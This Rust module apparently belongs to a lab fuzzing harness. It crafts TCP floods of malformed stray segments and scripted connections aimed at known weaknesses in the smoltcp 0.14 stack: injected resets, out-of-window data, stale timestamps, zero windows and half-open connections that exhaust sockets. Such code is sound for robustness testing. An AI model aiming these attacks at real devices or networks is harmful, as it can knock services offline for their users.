//! Attacks on TCP: floods of stray segments, and dialogues that get as far as a connection and then go
//! where smoltcp 0.14 is known to be weak.
//!
//! | weakness of the stack | how it is aimed at |
//! |---|---|
//! | a first flight beyond the advertised window | plot 0 of [`PLOTS`] |
//! | a lost FIN with duplicate acknowledgements | plot 1 |
//! | a window that closes over data in flight | plot 2 |
//! | a FIN on a segment out of order | plot 3 |
//! | data with an old acknowledgement | plot 4 |
//! | a reset anywhere in the window | plot 5 |
//! | old segments with old timestamps | plot 6 |
//! | connections that are never finished, a slow first retransmission | plot 7, and the flood |
//! | one listening socket per connection | the flood |
//!
//! What a waiting device, or one that fails, does to the stack cannot be done from the wire. Address
//! probes that the stack ignores are [`Weapon::ArpProbe`](super::Weapon::ArpProbe)'s.

use smoltcp::wire::{EthernetFrame, IpAddress, IpProtocol, TcpControl, TcpPacket};

use super::build::{HEADER_LEN, packet};
use super::neighbours::introduction;
use super::target::{Aim, Station, TALKERS};
use crate::ECHO_PORT;

const FIN: u8 = 1;
const SYN: u8 = 2;
const RST: u8 = 4;
const PSH: u8 = 8;
const ACK: u8 = 16;
const URG: u8 = 32;

/// Ports that listen in a laboratory or are often open, that of beats, and some that cannot be.
const PORTS: [u16; 8] = [ECHO_PORT, 9, 19, 80, super::BEAT_PORT, 1, 65_535, 0];
/// Shots to wait for an answer before a dialogue is given up.
const PATIENCE: u8 = 16;
/// MSS 1460, window scale 14, SACK permitted, timestamps: all that a SYN can ask for.
const SYN_OPTIONS: [u8; 20] =
    [2, 4, 0x05, 0xb4, 3, 3, 14, 1, 4, 2, 8, 10, 0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0];
/// A timestamp long before that of the SYN.
const OLD_STAMP: [u8; 12] = [1, 1, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0];

/// What the client of a dialogue sends once the connection stands.
#[derive(Clone, Copy, Debug)]
struct Line {
    flags: u8,
    /// Relative to the next byte that the client owes.
    sequence: i32,
    /// How far behind the acknowledgement is.
    behind: u32,
    window: u16,
    len: usize,
    options: &'static [u8],
    times: u16,
}

const fn line(flags: u8, sequence: i32, len: usize) -> Line {
    Line { flags: ACK | flags, sequence, behind: 0, window: 8192, len, options: &[], times: 1 }
}

/// How dialogues go on, one after the other.
const PLOTS: [&[Line]; 8] = [
    &[Line { times: 60, ..line(PSH, 0, 1400) }],
    &[line(PSH, 0, 10), line(FIN, 0, 0), Line { behind: 1, times: 4, ..line(0, 0, 0) }],
    &[
        line(PSH, 0, 1000),
        Line { behind: 1000, window: 0, times: 2, ..line(0, 0, 0) },
        Line { window: 0, times: 3, ..line(PSH, 0, 100) },
    ],
    &[line(FIN | PSH, 500, 10), line(PSH, 0, 500)],
    &[
        Line { times: 4, ..line(PSH, 0, 10) },
        Line { behind: 5, times: 5, ..line(PSH, 0, 100) },
        Line { behind: 70_000, ..line(PSH, 0, 9) },
        // A number older than all that may have been dropped, and an acknowledgement that is not old.
        Line { times: 4, ..line(0, -520, 0) },
    ],
    &[
        line(PSH, 0, 10),
        Line { flags: RST, ..line(0, 1000, 0) },
        Line { flags: RST, ..line(0, -1, 0) },
        line(PSH, 0, 10),
        Line { flags: SYN, ..line(0, 5, 0) },
        Line { flags: RST, ..line(0, 0, 0) },
    ],
    &[
        line(PSH, 0, 50),
        Line { options: &OLD_STAMP, times: 2, ..line(PSH, -50, 50) },
        Line { options: &OLD_STAMP, ..line(PSH, 0, 50) },
    ],
    &[],
];

/// The dialogue that the attacker is in.
#[derive(Clone, Debug, Default)]
pub(super) struct Dialogues {
    begun: u16,
    current: Option<Dialogue>,
}

#[derive(Clone, Debug)]
struct Dialogue {
    client: Station,
    service: Station,
    port: u16,
    plot: &'static [Line],
    stage: Stage,
    next: u32,
    /// The service's next byte; 0 until it answered.
    heard: u32,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Stage {
    Introduce,
    Connect,
    /// No answer yet, for so many shots.
    Await(u8),
    /// The connection stands: this line, said so many times.
    Say(usize, u16),
}

/// One segment.
struct Segment<'a> {
    ports: (u16, u16),
    sequence: u32,
    acknowledgement: u32,
    flags: u8,
    window: u16,
    options: &'a [u8],
    payload: &'a [u8],
}

impl Segment<'_> {
    /// # Panics
    /// When the options are longer than 40 bytes, or do not fill words.
    fn emit(&self, ends: (Station, Station)) -> Vec<u8> {
        assert!(
            self.options.len() <= 40 && self.options.len().is_multiple_of(4),
            "options of whole words"
        );
        let words = 5 + self.options.len() as u8 / 4;
        let mut bytes = Vec::with_capacity(60 + self.payload.len());
        bytes.extend_from_slice(&self.ports.0.to_be_bytes());
        bytes.extend_from_slice(&self.ports.1.to_be_bytes());
        bytes.extend_from_slice(&self.sequence.to_be_bytes());
        bytes.extend_from_slice(&self.acknowledgement.to_be_bytes());
        bytes.extend_from_slice(&[words << 4, self.flags]);
        bytes.extend_from_slice(&self.window.to_be_bytes());
        bytes.extend_from_slice(&[0; 4]);
        bytes.extend_from_slice(self.options);
        bytes.extend_from_slice(self.payload);
        packet(ends, IpProtocol::Tcp, 64, bytes)
    }
}

/// A flood and a dialogue in turns.
pub(super) fn next(aim: &mut Aim<'_>, dialogues: &mut Dialogues) -> Option<Vec<u8>> {
    if aim.shot.is_multiple_of(2) { dialogues.next(aim) } else { Some(stray(aim)) }
}

/// A segment that belongs to no connection.
fn stray(aim: &mut Aim<'_>) -> Vec<u8> {
    let ends = aim.towards_service();
    let (flags, options): (u8, &[u8]) = match aim.shot / 2 % 8 {
        0..=2 => (SYN, &SYN_OPTIONS),
        3 => ([RST, RST | ACK][aim.rng.usize(..2)], &[]),
        4 => (ACK, &[]),
        5 => (FIN | ACK, &[]),
        // Flags that mean nothing together, or none at all.
        6 => ([0, SYN | FIN, SYN | RST, FIN | PSH | URG, 0xff][aim.rng.usize(..5)], &[]),
        // Options of length 0, 1 and 255.
        _ => (SYN, &[[2, 0, 0, 0], [3, 1, 0, 0], [5, 255, 1, 1]][aim.rng.usize(..3)]),
    };
    let len = if flags == SYN { 0 } else { aim.rng.usize(..32) };
    let segment = Segment {
        ports: (aim.rng.u16(..), PORTS[aim.rng.usize(..PORTS.len())]),
        sequence: aim.rng.u32(..),
        acknowledgement: aim.rng.u32(..),
        flags,
        window: aim.rng.u16(..),
        options,
        payload: &aim.bytes(len),
    };
    let mut frame = segment.emit(ends);
    // Now and then a checksum is wrong, or the header longer than the segment.
    let transport = if matches!(ends.0.address, IpAddress::Ipv4(_)) { 20 } else { 40 };
    match aim.rng.u8(..8) {
        0 => frame[HEADER_LEN + transport + 16] ^= 0xff,
        1 => frame[HEADER_LEN + transport + 12] |= 0xf0,
        _ => {}
    }
    frame
}

impl Dialogues {
    /// Learns from what the service says.
    pub(super) fn hear(&mut self, frame: &[u8]) {
        let Some(dialogue) = &mut self.current else { return };
        let Some((control, next)) = answer_to(dialogue, frame) else { return };
        match (dialogue.stage, control) {
            (Stage::Await(_), TcpControl::Syn) => dialogue.stage = Stage::Say(0, 0),
            (Stage::Await(_), _) => return,
            (_, TcpControl::Rst) => {
                self.current = None;
                return;
            }
            _ => {}
        }
        dialogue.heard = next;
    }

    fn next(&mut self, aim: &mut Aim<'_>) -> Option<Vec<u8>> {
        let is_over = |dialogue: &mut Dialogue| match dialogue.stage {
            Stage::Await(shots) => shots == PATIENCE,
            Stage::Say(line, _) => line >= dialogue.plot.len(),
            Stage::Introduce | Stage::Connect => false,
        };
        self.current.take_if(is_over);
        if self.current.is_none() {
            self.begun = self.begun.wrapping_add(1);
        }
        let begun = self.begun;
        let dialogue = self.current.get_or_insert_with(|| Dialogue::begin(aim, begun));
        dialogue.say()
    }
}

impl Dialogue {
    fn begin(aim: &mut Aim<'_>, number: u16) -> Self {
        let service = aim.service();
        let address = aim.victims.stranger(service.address, number % TALKERS);
        Dialogue {
            client: Station { mac: aim.mac, address },
            service,
            port: 1024 + number % 50_000,
            plot: PLOTS[usize::from(number) % PLOTS.len()],
            stage: Stage::Introduce,
            next: aim.rng.u32(..),
            heard: 0,
        }
    }

    fn say(&mut self) -> Option<Vec<u8>> {
        match self.stage {
            Stage::Introduce => {
                self.stage = Stage::Connect;
                introduction(self.client, self.service)
            }
            Stage::Connect => {
                self.stage = Stage::Await(0);
                let syn = self.segment(SYN, self.next, 0, 65_535, &SYN_OPTIONS, &[]);
                self.next = self.next.wrapping_add(1);
                Some(syn)
            }
            Stage::Await(shots) => {
                self.stage = Stage::Await(shots + 1);
                None
            }
            Stage::Say(index, times) => {
                let line = self.plot.get(index)?;
                let said = times + 1;
                self.stage = if said < line.times {
                    Stage::Say(index, said)
                } else {
                    Stage::Say(index + 1, 0)
                };
                Some(self.perform(line))
            }
        }
    }

    fn perform(&mut self, line: &Line) -> Vec<u8> {
        let sequence = self.next.wrapping_add_signed(line.sequence);
        let acknowledgement = self.heard.wrapping_sub(line.behind);
        let payload = vec![b'x'; line.len];
        let frame = self.segment(
            line.flags,
            sequence,
            acknowledgement,
            line.window,
            line.options,
            &payload,
        );
        if line.sequence == 0 {
            let fin = u32::from(line.flags & FIN != 0);
            self.next = self.next.wrapping_add(line.len as u32 + fin);
        }
        frame
    }

    fn segment(
        &self,
        flags: u8,
        sequence: u32,
        acknowledgement: u32,
        window: u16,
        options: &[u8],
        payload: &[u8],
    ) -> Vec<u8> {
        let ports = (self.port, ECHO_PORT);
        let segment = Segment { ports, sequence, acknowledgement, flags, window, options, payload };
        segment.emit((self.client, self.service))
    }
}

/// What a frame says, if it is the service's part of the dialogue: the control flag, and the byte that
/// comes next.
fn answer_to(dialogue: &Dialogue, frame: &[u8]) -> Option<(TcpControl, u32)> {
    let ethernet = EthernetFrame::new_checked(frame).ok()?;
    let header = match dialogue.client.address {
        IpAddress::Ipv4(_) => 20,
        IpAddress::Ipv6(_) => 40,
    };
    let ip = ethernet.payload();
    let client = match dialogue.client.address {
        IpAddress::Ipv4(address) => ip.get(16..20)? == address.octets(),
        IpAddress::Ipv6(address) => ip.get(24..40)? == address.octets(),
    };
    let segment = TcpPacket::new_checked(ip.get(header..)?).ok()?;
    if !client || (segment.src_port(), segment.dst_port()) != (ECHO_PORT, dialogue.port) {
        return None;
    }
    let control = match (segment.rst(), segment.syn()) {
        (true, _) => TcpControl::Rst,
        (false, true) => TcpControl::Syn,
        (false, false) => TcpControl::None,
    };
    let next = segment.seq_number() + segment.segment_len();
    Some((control, next.0 as u32))
}
